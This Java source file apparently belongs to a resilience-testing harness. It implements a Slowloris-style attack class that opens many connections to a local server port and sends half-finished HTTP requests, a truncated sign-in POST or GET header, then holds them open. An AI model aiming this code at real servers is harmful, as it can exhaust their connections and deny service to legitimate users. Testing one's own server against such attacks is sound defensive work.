package org.aliquot.hostile;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/** Many connections that begin a request, never end it, and stay. */
record HalfRequests(int connections, String beginning, Duration stay) implements Attack {

    private static final int AT_ONCE = 200;

    /** A form that announces what a stranger may send and sends twelve bytes of it. */
    static HalfRequests forms(int connections, Duration stay) {
        return new HalfRequests(connections, """
                POST /sign-in HTTP/1.1\r
                Host: localhost\r
                Content-Type: application/x-www-form-urlencoded\r
                Content-Length: 16000\r
                \r
                email=a@exam""", stay);
    }

    static HalfRequests headers(int connections, Duration stay) {
        return new HalfRequests(connections, "GET / HTTP/1.1\r\nHost: loca", stay);
    }

    @Override
    public void on(Target target) throws IOException, InterruptedException {
        List<SocketChannel> waiting = new ArrayList<>();
        List<SocketChannel> all = new ArrayList<>();
        try {
            for (int i = 0; i < connections; i++) {
                SocketChannel channel = SocketChannel.open();
                all.add(channel);
                channel.configureBlocking(false);
                channel.connect(new InetSocketAddress("127.0.0.1", target.port()));
                waiting.add(channel);
                if (i % AT_ONCE == 0) {
                    waiting.removeIf(this::begun);
                }
            }
            long end = System.nanoTime() + stay.toNanos();
            while (System.nanoTime() < end) {
                waiting.removeIf(this::begun);
                Thread.sleep(100);
            }
        } finally {
            for (SocketChannel channel : all) {
                channel.close();
            }
        }
    }

    /** Whether the server took the connection and has its half of a request, or took it away again. */
    private boolean begun(SocketChannel channel) {
        try {
            if (!channel.finishConnect()) {
                return false;
            }
            channel.write(ByteBuffer.wrap(beginning.getBytes(StandardCharsets.US_ASCII)));
            return true;
        } catch (IOException refused) {
            return true;
        }
    }

    @Override
    public String toString() {
        return connections + " times " + beginning.lines().findFirst().orElse("");
    }
}
